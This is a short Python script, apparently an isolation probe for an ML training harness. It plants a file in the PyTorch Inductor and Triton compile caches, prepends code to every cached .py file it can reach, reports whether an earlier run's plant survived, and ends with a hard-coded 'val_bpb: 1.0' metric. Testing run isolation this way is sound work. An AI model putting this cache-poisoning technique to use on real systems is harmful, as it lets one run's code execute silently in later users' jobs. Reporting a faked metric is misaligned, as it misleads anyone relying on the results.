"""Attack: plant code in the compile caches (Inductor, Triton) for a later run to execute.

Each run first reports what an earlier run left there (a later run would execute it),
then plants its own file and prepends code to every cached .py file it can reach.
"""

import os

PLANT = "planted_by_an_earlier_run.py"
CODE = "print('PWNED: code from an earlier run')\n"

for name in ("TORCHINDUCTOR_CACHE_DIR", "TRITON_CACHE_DIR"):
    folder = os.environ.get(name)
    if not folder:
        print(f"blocked {name}: not set")
        continue
    found = [os.path.join(d, f) for d, _, files in os.walk(folder) for f in files]
    if any(path.endswith(PLANT) for path in found):
        print(f"LEAK {name} holds a file an earlier run planted")
    else:
        print(f"{name} holds {len(found)} files, none planted")
    for path in found:
        if path.endswith(".py"):
            with open(path, "r+") as f:
                text = f.read()
                f.seek(0)
                f.write(CODE + text)
    os.makedirs(folder, exist_ok=True)
    with open(os.path.join(folder, PLANT), "w") as f:
        f.write(CODE)
    print(f"planted {PLANT} in {name}")
print("---")
print("val_bpb: 1.0")
